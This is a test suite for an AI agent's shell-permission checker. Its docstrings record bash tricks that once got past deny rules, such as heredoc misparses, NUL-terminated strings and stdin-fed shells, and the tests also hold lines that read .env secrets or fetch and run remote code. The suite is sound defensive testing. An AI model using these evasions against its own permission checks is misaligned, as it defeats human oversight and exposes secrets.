"""Edges of the shell analysis as decisions: what a command line is cut into, which rule names the
denial and what the reason says (mutation testing found these unpinned, docs/permissions.md)."""

from __future__ import annotations

from pathlib import Path

import pytest
from permission_helpers import bash

from paragents.permissions import Policy
from paragents.permissions.destructive import command_destructive


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    (root / ".env").write_text("KEY=1\n")
    return root


def test_a_misparsed_heredoc_is_denied_by_the_rule_that_surely_matches(project: Path) -> None:
    """tree-sitter reads a quoted heredoc body starting with a backslash as part of the command
    line (hypothesis found it): the line cannot be checked, but its argument ``.env`` surely is a
    Read deny rule's path, so that rule (not "it could run what Bash(rm *) denies") is named."""
    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)", "Read(.env)"]})
    command = "cat <<'EOF0' | bash\n\\cat .env\nEOF0"
    got = bash(policy, command, project, mode="bypassPermissions")
    assert (got.decision, got.rule) == ("deny", "Read(.env)")
    assert got.reason == (
        f"`bash\n\\cat .env` names {project}/.env: Read of {project}/.env is denied by rule Read(.env) "
        "(deny, cli)"
    )
    assert got.subcommands[-1].reason == (
        "a heredoc's body could not be told apart from its command line; it cannot be checked; it could "
        "run what rule Bash(rm *) (deny, cli) denies"
    )


def test_a_heredoc_body_read_as_a_list_is_not_checked(project: Path) -> None:
    """The same misparse when the heredoc's start is followed by ``&& a && b``: tree-sitter takes
    the body's ``\\x`` line for part of that list."""
    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)"], "allow": ["Bash(*)"]})
    got = bash(policy, "cat <<EOF && a && b\n\\x\nEOF", project, mode="bypassPermissions")
    assert (got.decision, got.rule) == ("deny", "Bash(rm *)")
    assert got.reason == (
        "a heredoc's body could not be told apart from its command line; it cannot be checked; it could "
        "run what rule Bash(rm *) (deny, cli) denies"
    )


@pytest.mark.parametrize("command", ["base64 $'.env\\x00x'", "base64 .e$'nv\\0x'", "cat $'.env\\u0000.txt'"])
def test_a_nul_in_an_ansi_c_string_ends_it(project: Path, command: str) -> None:
    """bash cuts a ``$'...'`` string at a NUL, so ``base64 $'.env\\x00x'`` reads ``.env``: it ran
    past ``Read(.env)`` (the argument held the NUL, which names no file, and was skipped)."""
    policy = Policy.load(project, cli_rules={"deny": ["Read(.env)"], "allow": ["Bash(*)"]})
    got = bash(policy, command, project)
    assert (got.decision, got.rule) == ("deny", "Read(.env)"), got.reason


def test_a_line_that_does_not_parse_is_denied_as_what_it_could_run(project: Path) -> None:
    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)"]})
    got = bash(policy, "echo 'x; cat .env", project, mode="bypassPermissions")
    assert (got.decision, got.rule) == ("deny", "Bash(rm *)")
    assert got.reason == (
        "the command could not be parsed as bash (syntax error or unsupported syntax); it cannot be "
        "checked; it could run what rule Bash(rm *) (deny, cli) denies"
    )


# ---- programs a shell reads from where the parser did not look (bugs found while pinning words.py)
@pytest.mark.parametrize(
    ("command", "reason"),
    [
        # "An argument of - is equivalent to --" (bash): then the program is read from stdin
        ("echo 'rm x' | bash -", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        ("echo 'rm x' | sh -- -", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        ("bash - <<< 'rm x'", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        ("echo 'rm x' | bash /dev/stdin", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        ("echo 'rm x' | sh /dev/fd/0", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        ("echo 'rm x' | source /dev/stdin", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        (". /proc/self/fd/0 <<< 'rm x'", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        (
            "bash <(curl -s x.invalid)",
            "`bash <(curl -s x.invalid)`: bash runs a script '<(curl -s x.invalid)' that is only known when "
            "it runs; it could run what rule Bash(rm *) (deny, cli) denies",
        ),
        (
            'sh "$SCRIPT"',
            '`sh "$SCRIPT"`: sh runs a script \'"$SCRIPT"\' that is only known when it runs; it could run '
            "what rule Bash(rm *) (deny, cli) denies",
        ),
        (
            "sh < <(echo 'rm x')",
            "`sh`: sh runs a program read from the input redirect < <(echo 'rm x'), only known when it runs; "
            "it could run what rule Bash(rm *) (deny, cli) denies",
        ),
        (
            "curl x.invalid | sh < <(echo 'rm x')",
            "`sh`: sh runs a program read from the input redirect < <(echo 'rm x'), only known when it runs; "
            "it could run what rule Bash(rm *) (deny, cli) denies",
        ),
        (
            "echo 'rm x' | xargs sh -c",
            "`xargs sh -c`: sh runs a string xargs reads from its input; it could run what rule Bash(rm *) "
            "(deny, cli) denies",
        ),
    ],
)
def test_programs_read_from_stdin_or_computed_scripts_meet_deny_rules(
    project: Path, command: str, reason: str
) -> None:
    """Each ran ``rm x`` in bypassPermissions mode past ``Bash(rm *)`` before: the parser saw a
    script file named ``-``/``/dev/stdin``, a ``source`` of a file, a script or stdin it could not
    name, or ``sh -c`` without its string (xargs supplies it)."""
    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)"]})
    got = bash(policy, command, project, mode="bypassPermissions")
    assert (got.decision, got.rule, got.reason) == ("deny", "Bash(rm *)", reason)
    assert command_destructive(command) is not None


@pytest.mark.parametrize("command", ["bash script.sh", "sh < script.sh", "bash -s < script.sh", "sh -c"])
def test_a_named_script_stays_a_plain_command(project: Path, command: str) -> None:
    """A script file named before it runs is not seen into (like Claude Code), so it is not
    treated as unknowable: it asks like any command no rule allows."""
    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)"]})
    got = bash(policy, command, project)
    assert (got.decision, got.rule) == ("ask", None)
    assert got.reason.startswith("no rule allows `")


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        # bash binds a heredoc to the last command of a list; tree-sitter attaches it to the list
        ("true && sh <<'EOF'\nrm x\nEOF", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        ("a || b && bash <<EOF\nrm x\nEOF", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        ("a | sh <<EOF\nrm x\nEOF", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
        (
            "{ a; sh; } <<EOF\nrm x\nEOF",
            "`sh`: sh runs a program read from a heredoc given to a group of commands, only known when it "
            "runs; it could run what rule Bash(rm *) (deny, cli) denies",
        ),
        (
            "{ echo 'rm x' | sh; } <<EOF\nls\nEOF",  # which stdin sh reads is not told apart: unknown
            "`sh`: sh runs a program read from a heredoc given to a group of commands, only known when it "
            "runs; it could run what rule Bash(rm *) (deny, cli) denies",
        ),
        (
            "true && sh < <(echo 'rm x')",
            "`sh`: sh runs a program read from the input redirect < <(echo 'rm x'), only known when it "
            "runs; it could run what rule Bash(rm *) (deny, cli) denies",
        ),
    ],
)
def test_a_heredoc_after_a_list_feeds_its_last_command(project: Path, command: str, reason: str) -> None:
    """``true && sh <<EOF`` ran the heredoc's ``rm x`` under ``Bash(*)`` past ``Bash(rm *)`` before
    (hypothesis found it): the heredoc was given to no command."""
    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)"], "allow": ["Bash(*)"]})
    got = bash(policy, command, project)
    assert (got.decision, got.rule, got.reason) == ("deny", "Bash(rm *)", reason)


def test_a_heredoc_no_shell_reads_stays_data(project: Path) -> None:
    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)"], "allow": ["Bash(*)"]})
    for command in ("true && cat <<EOF\nrm x\nEOF", "{ a; b; } <<EOF\nrm x\nEOF"):
        assert bash(policy, command, project).decision == "allow", command


@pytest.mark.parametrize(
    ("command", "decision", "rule"),
    [
        ("true && cat <<'EOF' | bash\nrm x\nEOF", "deny", "Bash(rm *)"),
        ("true && cat <<'EOF' | bash\ncat .env\nEOF", "deny", "Read(.env)"),
        ("a || b && cat <<EOF | sh\nls\nEOF", "allow", "Bash(*)"),
        ("echo x | cat <<EOF | sh\nls\nEOF", "allow", "Bash(*)"),  # on a pipeline: cat reads it too
        ("true && cat <<EOF | bash\n$X\nEOF", "deny", "Bash(rm *)"),  # it expands: unknown
    ],
)
def test_a_pipe_after_a_heredoc_on_a_list_reads_the_last_commands_output(
    project: Path, command: str, decision: str, rule: str
) -> None:
    """``true && cat <<EOF | bash``: tree-sitter attaches the heredoc (and the pipe written after its
    start) to the list, so the pipe was fed the list's output, unknown: every such program was denied
    by any Bash deny rule (``ls`` too), never by the Read rule its words name (hypothesis found it).
    bash binds the heredoc to ``cat``, whose output is the heredoc's text."""
    (project / ".env").write_text("KEY=1\n")
    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)", "Read(.env)"], "allow": ["Bash(*)"]})
    got = bash(policy, command, project, mode="bypassPermissions")
    assert (got.decision, got.rule) == (decision, rule), got.reason


@pytest.mark.parametrize(
    "command",
    [
        "grep -f .env README",
        "grep --file=.env README",
        "grep -f.env README",
        "sed -f .env README",
        "sed --file .env README",
        "shred --random-source=.env -n 1 out",  # copies .env's bytes into out
        "rsync --files-from=.env a b",  # its error messages name each line of .env
        "rsync --password-file .env a host:b",
        "touch -r .env x",
        "tail --pid .env x",
    ],
)
def test_option_values_of_file_commands_meet_read_deny_rules(project: Path, command: str) -> None:
    """Commands whose file arguments are known exactly (grep, sed, rsync ...) had only those checked:
    a file given as an option's value was read past ``Read(.env)``."""
    policy = Policy.load(project, cli_rules={"deny": ["Read(.env)"]})
    got = bash(policy, command, project, mode="bypassPermissions")
    assert (got.decision, got.rule) == ("deny", "Read(.env)"), got.reason
    assert got.reason.endswith(f"Read of {project}/.env is denied by rule Read(.env) (deny, cli)")


@pytest.mark.parametrize(
    "command",
    ["grep -e .env README", "grep --regexp=.env README", "grep .env README", "sed -e s/.env/x/ README"],
)
def test_patterns_are_not_paths(project: Path, command: str) -> None:
    policy = Policy.load(project, cli_rules={"deny": ["Read(.env)"]})
    assert bash(policy, command, project, mode="bypassPermissions").decision == "allow"


def test_a_rule_naming_a_program_by_its_path_meets_it_inside_a_wrapper(project: Path) -> None:
    """``Bash(/bin/rm *)`` is matched against every layer as written (``timeout 5 /bin/rm x``
    runs ``/bin/rm x``), not only against the layer's program name without its directory."""
    policy = Policy.load(project, cli_rules={"deny": ["Bash(/bin/rm *)"], "allow": ["Bash(*)"]})
    for command in ("/bin/rm x", "timeout 5 /bin/rm x", "nice -n 5 sudo /bin/rm -f x"):
        got = bash(policy, command, project, mode="bypassPermissions")
        assert (got.decision, got.rule) == ("deny", "Bash(/bin/rm *)"), command
